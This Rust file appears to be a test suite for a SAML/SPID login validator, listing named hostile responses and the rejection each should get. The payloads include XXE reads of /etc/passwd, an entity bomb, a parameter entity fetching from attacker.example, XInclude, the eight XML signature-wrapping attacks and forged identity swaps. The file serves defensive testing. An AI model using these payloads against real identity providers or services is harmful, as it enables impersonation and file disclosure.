//! Attacks on the XML and on its signature: what is added or moved after an honest signature, and dishonest ones
//! (SPID-R1, SPID-R2, SPID-R7). Each differs from `assertion-signed`, `both-signed` or `signature-without-key-info`,
//! which are accepted, by the attack alone.

use fascicolo_eid::xml::{self, DS, ENVELOPED, EXC_C14N, Place, SAML};

use crate::maker::{
    Odd, after, before, change, cut, provider_key, signed, signed_twice, stranger_key, transform, unsigned,
};
use crate::rules::anomaly;

/// Name, the word for the outcome, the answer.
pub(crate) type Attack = (&'static str, &'static str, String);

/// An Assertion that says what the attacker wants, unsigned.
pub(crate) fn evil(answer: &str) -> String {
    let assertion = cut(answer, "saml:Assertion");
    let signature = cut(assertion, "ds:Signature");
    assertion
        .replace(signature, "")
        .replace("ID=\"_assertion\"", "ID=\"_evil\"")
        .replace("GDASDV00A01H501J", "RSSMRA80A01H501U")
}

const ROOT_END: &str = "\n</samlp:Response>";
const STATUS: &str = "<samlp:Status>";

#[rustfmt::skip]
pub(crate) fn markup() -> Vec<Attack> {
    let good = signed(&unsigned());
    let internal = "<!DOCTYPE Response [<!ENTITY who \"RSSMRA80A01H501U\">]>";
    let external = "<!DOCTYPE Response [<!ENTITY who SYSTEM \"file:///etc/passwd\">]>";
    let bomb = "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>";
    let cf = "GDASDV00A01H501J";
    vec![
        ("comment-in-value", "comment", change(&good, cf, "GDASDV00A01<!-- -->H501J")),
        ("comment-before-root", "comment", format!("<!-- -->{good}")),
        ("comment-after-root", "comment", format!("{good}<!-- -->")),
        ("doctype-bare", "doctype", format!("<!DOCTYPE Response>{good}")),
        ("doctype-empty-subset", "doctype", format!("<!DOCTYPE Response []>{good}")),
        ("doctype-internal-entity", "doctype", format!("{internal}{}", change(&good, cf, "&who;"))),
        ("doctype-external-entity", "doctype", format!("{external}{}", change(&good, cf, "&who;"))),
        ("doctype-entity-bomb", "doctype", format!("{bomb}{}", change(&good, cf, "&c;"))),
        ("doctype-lower-case", "doctype", format!("<!doctype Response>{good}")),
        ("stylesheet", "processing_instruction", format!("<?xml-stylesheet href=\"a.xsl\"?>{good}")),
        ("instruction-in-value", "processing_instruction", change(&good, cf, "GDASDV00A01<?a?>H501J")),
        ("declaration-twice", "processing_instruction", format!("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>{good}")),
        ("comment-beside-cdata", "comment", change(&good, cf, "<![CDATA[GDASDV00A01]]><!-- -->H501J")),
        ("comment-after-what-looks-like-cdata", "malformed", change(&good, ">Ada<", " a=\"<![CDATA[\"><!-- -->]]>Ada<")),
        ("comment-in-cdata", "digest_mismatch", change(&good, cf, "<![CDATA[GDASDV00A01<!-- -->H501J]]>")),
        ("cdata-without-end", "malformed", change(&good, ">Ada<", "><![CDATA[Ada<")),
        ("cdata-in-lower-case", "doctype", change(&good, ">Ada<", "><![cdata[Ada]]><")),
        ("cdata-before-root", "malformed", format!("<![CDATA[]]>{good}")),
        ("cdata-of-another-value", "digest_mismatch", change(&good, cf, "<![CDATA[RSSMRA80A01H501U]]>")),
        ("declared-latin-1", "not_utf8", format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{good}")),
        ("declared-utf-16", "not_utf8", format!("<?xml version=\"1.0\" encoding='UTF-16'?>{good}")),
        ("declared-version-1-1", "malformed", format!("<?xml version=\"1.1\"?>{good}")),
        ("declared-version-0", "malformed", format!("<?xml version=\"0.0\" encoding=\"utf-8\" ?>{good}")),
        ("declared-latin-1-after-a-byte-order-mark", "not_utf8", format!("\u{feff}<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{good}")),
        ("declared-without-version", "malformed", format!("<?xml encoding=\"utf-8\"?>{good}")),
        ("declared-without-end", "malformed", format!("<?xml version=\"1.0\"{good}")),
        ("declared-utf-7", "not_utf8", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{good}")),
        ("declared-utf-8-and-something", "not_utf8", format!("<?xml version=\"1.0\" encoding=\"UTF-8x\"?>{good}")),
        ("declared-in-upper-case", "processing_instruction", format!("<?XML version=\"1.0\"?>{good}")),
        ("declared-after-a-blank", "processing_instruction", format!(" <?xml version=\"1.0\"?>{good}")),
        ("doctype-after-declaration", "doctype", format!("<?xml version=\"1.0\"?>\n<!DOCTYPE Response>{good}")),
        ("doctype-parameter-entity", "doctype", format!("<!DOCTYPE r [<!ENTITY % who SYSTEM \"https://attacker.example/\">%who;]>{good}")),
        ("doctype-default-attribute", "doctype", format!("<!DOCTYPE r [<!ATTLIST Response ID ID \"_assertion\">]>{good}")),
        ("doctype-after-root", "doctype", format!("{good}<!DOCTYPE Response>")),
        ("comment-in-name-id", "comment", change(&good, "_transient\n", "_trans<!-- -->ient\n")),
        ("comment-in-issuer", "comment", change(&good, ">https://idp.example</saml:Issuer>\n  <samlp", ">https://idp.example<!-- -->.attacker.example</saml:Issuer>\n  <samlp")),
        ("comment-in-signature-value", "comment", change(&good, "<ds:SignatureValue>", "<ds:SignatureValue><!-- -->")),
        ("instruction-in-name-id", "processing_instruction", change(&good, "_transient\n", "_trans<?a?>ient\n")),
        ("instruction-after-root", "processing_instruction", format!("{good}<?a?>")),
        ("xinclude", "shape", before(&good, STATUS, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>")),
    ]
}

/// Not well-formed, or of a size or form that no provider needs.
#[rustfmt::skip]
pub(crate) fn forms() -> Vec<Attack> {
    let good = signed(&unsigned());
    let cf = "GDASDV00A01H501J";
    vec![
        ("entity-undeclared", "malformed", change(&good, cf, "&who;")),
        ("name-that-begins-with-a-colon", "malformed", before(&good, STATUS, "<:a/>")),
        ("attribute-that-begins-with-a-colon", "malformed", change(&good, "ID=\"_response\"", ":ID=\"_response\"")),
        ("attribute-name-huge", "too_long", before(&good, STATUS, &format!("<a {}=\"\"/>", "n".repeat(1025)))),
        ("namespace-name-huge", "too_long", before(&good, STATUS, &format!("<a xmlns:a=\"{}\"/>", "u".repeat(257)))),
        ("namespaces-nested", "too_many_attributes", before(&good, STATUS, &(0..65).fold(String::new(), |inner, i| format!("<a xmlns:n{i}=\"n\">{inner}</a>")))),
        ("nested-too-deeply-in-a-value", "too_deep", change(&good, ">Ada<", &format!(">{}{}<", "<a>".repeat(40), "</a>".repeat(40)))),
        ("reference-to-nul", "malformed", change(&good, ">Ada<", ">A&#0;da<")),
        ("reference-to-no-character", "malformed", change(&good, ">Ada<", ">A&#xFFFE;da<")),
        ("control-character", "malformed", change(&good, ">Ada<", ">A\u{1}da<")),
        ("attribute-with-less-than", "malformed", change(&good, "ID=\"_response\"", "ID=\"<_response\"")),
        ("ampersand-alone", "malformed", change(&good, ">Ada<", ">A & da<")),
        ("cdata-end-in-text", "malformed", change(&good, ">Ada<", ">A]]>da<")),
        ("entity-in-attribute", "malformed", change(&good, "ID=\"_response\"", "ID=\"&who;\"")),
        ("cut-short", "malformed", good[..good.len() - 4].to_owned()),
        ("two-roots", "malformed", format!("{good}{good}")),
        ("text-after-root", "malformed", format!("{good}text")),
        ("text-between-elements", "shape", before(&good, STATUS, "text")),
        ("nested-too-deeply", "too_deep", before(&good, STATUS, &format!("{}{}", "<a>".repeat(40), "</a>".repeat(40)))),
        ("too-many-nodes", "too_many_nodes", before(&good, STATUS, &"<a/>".repeat(3000))),
        ("too-many-attributes", "too_many_attributes", before(&good, STATUS, &format!("<a{}/>", (0..65).map(|i| format!(" a{i}=\"\"")).collect::<String>()))),
        ("too-many-namespaces", "too_many_attributes", before(&good, STATUS, &format!("<a{}/>", (0..65).map(|i| format!(" xmlns:a{i}=\"a{i}\"")).collect::<String>()))),
        ("namespace-with-ampersand", "namespace_name", before(&good, STATUS, "<a xmlns:b=\"a&amp;b\"/>")),
        ("namespace-with-quote", "namespace_name", before(&good, STATUS, "<a xmlns='a\"b'/>")),
        ("namespace-undeclared", "namespace_name", before(&good, STATUS, "<a xmlns:b=\"\"/>")),
        ("default-namespace-twice", "malformed", before(&good, STATUS, "<a xmlns=\"a\" xmlns=\"b\"/>")),
        ("default-namespace-in-disguise", "malformed", before(&good, STATUS, "<a xmlns:x=\"x\" xmlns=\"a\" x:xmlns=\"b\"/>")),
        ("default-namespace-in-disguise-alone", "malformed", change(&good, "ID=\"_response\"", "saml:xmlns=\"urn:x\" ID=\"_response\"")),
        ("line-end-of-old-after-a-reference", "malformed", change(&good, "&amp; Figli", "&amp;\r Figli")),
        ("attribute-twice", "malformed", change(&good, "ID=\"_response\"", "ID=\"_response\" ID=\"_other\"")),
        ("prefix-unknown", "malformed", before(&good, STATUS, "<x:a/>")),
    ]
}

#[rustfmt::skip]
pub(crate) fn identifiers() -> Vec<Attack> {
    let good = signed(&unsigned());
    let clash = |attribute: &str| {
        change(
            &good,
            "<samlp:StatusCode ",
            &format!("<samlp:StatusCode {attribute} "),
        )
    };
    vec![
        ("id-of-response-and-assertion", "duplicate_id", change(&good, "ID=\"_response\"", "ID=\"_assertion\"")),
        ("id-again", "duplicate_id", clash("ID=\"_assertion\"")),
        ("id-again-as-Id", "duplicate_id", clash("Id=\"_assertion\"")),
        ("id-again-as-id", "duplicate_id", clash("id=\"_assertion\"")),
        ("id-again-as-xml-id", "duplicate_id", clash("xml:id=\"_assertion\"")),
        ("id-again-as-iD", "duplicate_id", clash("iD=\"_assertion\"")),
    ]
}

#[rustfmt::skip]
pub(crate) fn places() -> Vec<Attack> {
    let good = signed(&unsigned());
    let assertion = cut(&good, "saml:Assertion").to_owned();
    let signature = cut(&good, "ds:Signature").to_owned();
    let evil = evil(&good);
    let moved = change(&good, &assertion, "");
    let hide = |wrapper: &str| {
        before(
            &moved,
            STATUS,
            &format!("<samlp:{wrapper}>{assertion}</samlp:{wrapper}>"),
        )
    };
    let object = format!("<ds:Object>{assertion}</ds:Object></ds:Signature>");
    let evil_signed = after(
        &evil,
        "nameid-format:entity' >https://idp.example</saml:Issuer>",
        &change(&signature, "</ds:Signature>", &object),
    );
    vec![
        ("assertion-unsigned", "signature_missing", unsigned()),
        ("assertion-second-unsigned-after", "assertion_count", before(&good, ROOT_END, &evil)),
        ("assertion-second-unsigned-before", "assertion_count", before(&good, "<saml:Assertion ", &evil)),
        ("assertion-missing", "assertion_missing", moved.clone()),
        ("assertion-in-extensions", "shape", hide("Extensions")),
        ("assertion-in-extensions-and-evil-one", "shape", before(&hide("Extensions"), ROOT_END, &evil)),
        ("assertion-in-object", "stray", before(&moved, ROOT_END, &evil_signed)),
        ("assertion-encrypted", "shape", before(&moved, ROOT_END, "<saml:EncryptedAssertion/>")),
        ("assertion-of-saml-1", "shape", before(&moved, ROOT_END, &evil.replace("<saml:Assertion ", "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:1.0:assertion\" "))),
        ("assertion-before-status", "shape", before(&moved, STATUS, &assertion)),
        ("extensions-empty", "shape", before(&good, STATUS, "<samlp:Extensions/>")),
        ("status-twice", "shape", before(&good, STATUS, cut(&good, "samlp:Status"))),
        ("issuer-twice", "shape", before(&good, STATUS, "<saml:Issuer>https://idp.example</saml:Issuer>")),
        ("response-in-value", "stray", change(&good, ">Ada<", "><samlp:Response/><")),
        ("entity-descriptor-in-value", "stray", change(&good, ">Ada<", "><md:EntityDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\"/><")),
        ("signature-in-value", "stray", change(&good, ">Ada<", &format!(">{signature}<"))),
        ("root-is-an-assertion", "root", assertion.replace("<saml:Assertion ", &format!("<saml:Assertion xmlns:saml=\"{SAML}\" "))),
        ("root-of-another-namespace", "root", good.replace("urn:oasis:names:tc:SAML:2.0:protocol", "urn:oasis:names:tc:SAML:1.0:protocol")),
        ("root-without-namespace", "root", good.replace("<samlp:Response xmlns:samlp=", "<Response xmlns:samlp=").replace("</samlp:Response>", "</Response>")),
    ]
}

/// The eight classical wrappings, with namespaces that hold.
#[rustfmt::skip]
pub(crate) fn xsw() -> Vec<Attack> {
    let once = signed(&unsigned());
    let twice = signed_twice(&unsigned());
    let evil = evil(&once);
    let response_signature = cut(&twice, "ds:Signature").to_owned();
    let bare = change(&twice, &response_signature, "");
    let evil_root = |text: &str| {
        text.replace("ID=\"_response\"", "ID=\"_evilresponse\"")
            .replace("GDASDV00A01H501J", "RSSMRA80A01H501U")
    };
    let signature_around = change(
        &response_signature,
        "</ds:Signature>",
        &format!("<ds:Object>{bare}</ds:Object></ds:Signature>"),
    );
    let assertion = cut(&once, "saml:Assertion").to_owned();
    let signature = cut(&assertion, "ds:Signature").to_owned();
    let original = change(&assertion, &signature, "");
    let tampered = assertion
        .replace("GDASDV00A01H501J", "RSSMRA80A01H501U")
        .replace("ID=\"_assertion\"", "ID=\"_evil\"");
    let without = change(&once, &assertion, "");
    let into_signature =
        |what: &str| change(&signature, "</ds:Signature>", &format!("{what}</ds:Signature>"));
    vec![
        ("xsw1", "duplicate_id", before(&evil_root(&bare), STATUS, &signature_around)),
        ("xsw2", "duplicate_id", before(&evil_root(&bare), STATUS, &format!("{bare}{response_signature}"))),
        ("xsw3", "assertion_count", before(&once, "<saml:Assertion ", &evil)),
        ("xsw4", "stray", before(&without, ROOT_END, &change(&evil, "</saml:Assertion>", &format!("{assertion}</saml:Assertion>")))),
        ("xsw5", "assertion_count", before(&without, ROOT_END, &format!("{tampered}{original}"))),
        ("xsw6", "stray", before(&without, ROOT_END, &change(&tampered, &signature, &into_signature(&original)))),
        ("xsw7", "shape", before(&once, STATUS, &format!("<samlp:Extensions>{evil}</samlp:Extensions>"))),
        ("xsw8", "stray", before(&without, ROOT_END, &change(&tampered, &signature, &into_signature(&format!("<ds:Object>{original}</ds:Object>"))))),
    ]
}

#[rustfmt::skip]
pub(crate) fn signatures() -> Vec<Attack> {
    let good = signed(&unsigned());
    let twice = signed_twice(&unsigned());
    let stranger =
        xml::sign_enveloped(&unsigned(), "_assertion", Place::AfterIssuer, &stranger_key()).unwrap();
    let response_only =
        xml::sign_enveloped(&unsigned(), "_response", Place::AfterIssuer, &provider_key()).unwrap();
    let response_by_stranger =
        xml::sign_enveloped(&good, "_response", Place::AfterIssuer, &stranger_key()).unwrap();
    let value = cut(&good, "ds:SignatureValue").to_owned();
    let first = &value[19..20];
    let flipped = format!(
        "<ds:SignatureValue>{}{}",
        if first == "A" { "B" } else { "A" },
        &value[20..]
    );
    let signature = cut(&good, "ds:Signature").to_owned();
    let anomaly_by_stranger = xml::sign_enveloped(
        &anomaly("ErrorCode nr19"),
        "_response",
        Place::AfterIssuer,
        &stranger_key(),
    )
    .unwrap();
    vec![
        ("tampered-value", "digest_mismatch", change(&good, "GDASDV00A01H501J", "RSSMRA80A01H501U")),
        ("tampered-attribute", "digest_mismatch", change(&good, "SpidL2", "SpidL3")),
        ("tampered-white-space", "digest_mismatch", change(&good, "\n    <saml:AuthnStatement", "\n   <saml:AuthnStatement")),
        ("tampered-response", "digest_mismatch", change(&twice, "SAML:2.0:status:Success\"/>", "SAML:2.0:status:Success\" />").replace("</samlp:Status>\n", "</samlp:Status>\n ")),
        ("tampered-signature", "signature_mismatch", change(&good, &value, &flipped)),
        ("signature-value-empty", "signature_mismatch", change(&good, &value, "<ds:SignatureValue/>")),
        ("signature-value-not-base64", "not_base64", change(&good, &value, "<ds:SignatureValue>****</ds:SignatureValue>")),
        ("signature-by-a-stranger", "signature_mismatch", stranger),
        ("signature-by-a-stranger-on-the-response", "signature_mismatch", response_by_stranger),
        ("signature-on-the-response-alone", "signature_missing", response_only),
        ("signature-twice", "signature_shape", change(&good, &signature, &format!("{signature}{signature}"))),
        ("signature-of-another-namespace", "assertion_shape", Odd::default().sign(&after(&unsigned(), "nameid-format:entity' >https://idp.example</saml:Issuer>", "<x:Signature xmlns:x=\"urn:x\"/>"))),
        ("anomaly-signed-by-a-stranger", "signature_mismatch", anomaly_by_stranger),
    ]
}

/// Signatures that hold, of the provider, but not of the one accepted form.
#[rustfmt::skip]
pub(crate) fn profile() -> Vec<Attack> {
    let odd = |name, word, odd: Odd<'_>| (name, word, odd.sign(&unsigned()));
    let reference = |uri: &str| Odd {
        reference: uri.to_owned(),
        ..Odd::default()
    };
    let transforms = |list: &[&str]| Odd {
        transforms: format!(
            "<ds:Transforms>{}</ds:Transforms>",
            list.iter().map(|a| transform(a)).collect::<String>()
        ),
        ..Odd::default()
    };
    let second = format!(
        "<ds:Reference URI=\"#_response\"><ds:Transforms>{}</ds:Transforms><ds:DigestMethod Algorithm=\"{}\">\
         </ds:DigestMethod><ds:DigestValue>AA==</ds:DigestValue></ds:Reference>",
        transform(ENVELOPED),
        xml::SHA256
    );
    let inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
    let commented = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
    let xpath = "http://www.w3.org/TR/1999/REC-xpath-19991116";
    let many: String = (0..33).map(|i| format!("p{i} ")).collect();
    let listed = Odd {
        transforms: format!(
            "<ds:Transforms>{}<ds:Transform Algorithm=\"{EXC_C14N}\"><ec:InclusiveNamespaces xmlns:ec=\"{EXC_C14N}\" \
             PrefixList=\"{many}\"></ec:InclusiveNamespaces></ds:Transform></ds:Transforms>",
            transform(ENVELOPED)
        ),
        ..Odd::default()
    };
    vec![
        odd("reference-empty", "reference", reference(" URI=\"\"")),
        odd("reference-absent", "reference", reference("")),
        odd("reference-to-a-file", "reference", reference(" URI=\"file:///etc/passwd\"")),
        odd("reference-to-the-network", "reference", reference(" URI=\"https://idp.example/#_assertion\"")),
        odd("reference-by-xpointer", "reference", reference(" URI=\"#xpointer(id('_assertion'))\"")),
        odd("reference-to-the-response", "reference", reference(" URI=\"#_response\"")),
        odd("reference-second", "reference", Odd { after_reference: second, ..Odd::default() }),
        odd("transforms-absent", "transforms", Odd { transforms: String::new(), ..Odd::default() }),
        odd("transforms-enveloped-alone", "transforms", transforms(&[ENVELOPED])),
        odd("transforms-canonical-alone", "transforms", transforms(&[EXC_C14N])),
        odd("transforms-swapped", "transforms", transforms(&[EXC_C14N, ENVELOPED])),
        odd("transforms-three", "transforms", transforms(&[ENVELOPED, EXC_C14N, EXC_C14N])),
        odd("transforms-xpath", "transforms", transforms(&[ENVELOPED, xpath])),
        odd("transforms-xslt", "transforms", transforms(&["http://www.w3.org/TR/1999/REC-xslt-19991116", EXC_C14N])),
        odd("transforms-inclusive", "transforms", transforms(&[ENVELOPED, inclusive])),
        odd("transforms-with-comments", "transforms", transforms(&[ENVELOPED, commented])),
        odd("transforms-prefix-list-too-long", "transforms", listed),
    ]
}

/// Signatures by other methods, keys or with more parts. (The one called rsa-sha1 is made with SHA-256: nothing here can
/// make the real one, and it is refused by its name.)
#[rustfmt::skip]
pub(crate) fn methods() -> Vec<Attack> {
    let odd = |name, word, odd: Odd<'_>| (name, word, odd.sign(&unsigned()));
    let canonicalization = |algorithm: &str| Odd {
        canonicalization: format!(
            "<ds:CanonicalizationMethod Algorithm=\"{algorithm}\"></ds:CanonicalizationMethod>"
        ),
        ..Odd::default()
    };
    let certificate = xml::encode_base64(stranger_key().certificate_der());
    let embedded = Odd {
        key_info: format!(
            "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{certificate}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"
        ),
        ..Odd::default()
    };
    let inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
    let commented = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
    vec![
        odd("canonicalization-inclusive", "canonicalization", canonicalization(inclusive)),
        odd("canonicalization-with-comments", "canonicalization", canonicalization(commented)),
        odd("method-rsa-sha1", "signature_method", Odd { method: "http://www.w3.org/2000/09/xmldsig#rsa-sha1", ..Odd::default() }),
        odd("method-hmac", "signature_method", Odd { method: "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", ..Odd::default() }),
        odd("method-none", "signature_method", Odd { method: "", ..Odd::default() }),
        odd("digest-sha1", "digest_method", Odd { digest_method: "http://www.w3.org/2000/09/xmldsig#sha1", ..Odd::default() }),
        ("key-from-key-info", "signature_mismatch", embedded.sign_with(&unsigned(), &stranger_key())),
        odd("signature-with-object", "signature_shape", Odd { after_key_info: format!("<ds:Object xmlns:ds=\"{DS}\"></ds:Object>"), ..Odd::default() }),
    ]
}

/// Signatures of unusual but accepted form.
#[rustfmt::skip]
pub(crate) fn accepted() -> Vec<Attack> {
    let odd = |name, odd: Odd<'_>| (name, "proved", odd.sign(&unsigned()));
    let listed = |element: &str, list: &str| {
        format!(
            "<ds:{element} Algorithm=\"{EXC_C14N}\"><ec:InclusiveNamespaces xmlns:ec=\"{EXC_C14N}\" PrefixList=\"{list}\">\
             </ec:InclusiveNamespaces></ds:{element}>"
        )
    };
    let prefixes = Odd {
        transforms: format!(
            "<ds:Transforms>{}{}</ds:Transforms>",
            transform(ENVELOPED),
            listed("Transform", "xs #default samlp")
        ),
        prefixes: vec!["xs", "#default", "samlp"],
        ..Odd::default()
    };
    let more = "http://www.w3.org/2001/04/xmldsig-more#";
    let sha384 = format!("{more}sha384");
    let rsa384 = format!("{more}rsa-sha384");
    let rsa512 = format!("{more}rsa-sha512");
    let good = signed(&unsigned());
    let value = cut(&good, "ds:SignatureValue");
    let wrapped: String = value.as_bytes()[19..value.len() - 20]
        .chunks(64)
        .map(|line| format!("\n{}", std::str::from_utf8(line).unwrap()))
        .collect();
    vec![
        ("assertion-signed", "proved", good.clone()),
        ("both-signed", "proved", signed_twice(&unsigned())),
        ("declared-utf-8", "proved", format!("<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n{good}")),
        ("declared-without-encoding", "proved", format!("<?xml version='1.0'?>\n{good}\n")),
        ("cdata-in-value", "proved", change(&good, "GDASDV00A01H501J", "GDASDV<![CDATA[00A01H501]]>J")),
        ("cdata-in-name-id", "proved", change(&good, "_transient\n", "<![CDATA[_transient]]>\n")),
        ("signature-value-wrapped", "proved", change(&good, &value[19..value.len() - 20], &wrapped)),
        odd("signature-without-key-info", Odd::default()),
        odd("signature-with-prefix-list", prefixes),
        odd("signature-sha384", Odd { method: &rsa384, digest_method: &sha384, ..Odd::default() }),
        odd("signature-sha512", Odd { method: &rsa512, digest_method: "http://www.w3.org/2001/04/xmlenc#sha512", ..Odd::default() }),
    ]
}
